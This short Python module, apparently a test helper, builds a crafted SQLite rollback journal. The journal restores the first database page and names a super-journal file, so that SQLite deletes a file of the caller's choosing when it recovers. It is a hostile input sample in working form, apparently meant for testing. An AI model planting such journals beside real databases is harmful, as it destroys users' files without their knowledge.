# SPDX-License-Identifier: Apache-2.0
"""Files that were made to do harm."""

from __future__ import annotations

import struct

MAGIC = bytes.fromhex("d9d505f920a163d7")
NONCE = 12345


def checksum(page: bytes) -> int:
    """Of a page in a journal: every 200th byte from the end, and a number of the journal."""
    return (NONCE + sum(page[at] for at in range(len(page) - 200, 0, -200))) & 0xFFFFFFFF


def journal(database: bytes, deleted: bytes) -> bytes:
    """A rollback journal that puts the first page back and names a super-journal, which SQLite deletes then
    (https://sqlite.org/fileformat.html#the_rollback_journal)."""
    (page,) = struct.unpack(">H", database[16:18])
    head = MAGIC + struct.pack(">IIIII", 1, NONCE, len(database) // page, 512, page)
    record = struct.pack(">I", 1) + database[:page] + struct.pack(">I", checksum(database[:page]))
    locked = struct.pack(">I", (1 << 30) // page + 1)  # the page that is never used stands for a name
    name = deleted + struct.pack(">II", len(deleted), sum(deleted) & 0xFFFFFFFF) + MAGIC
    return head.ljust(512, b"\0") + record + locked + name
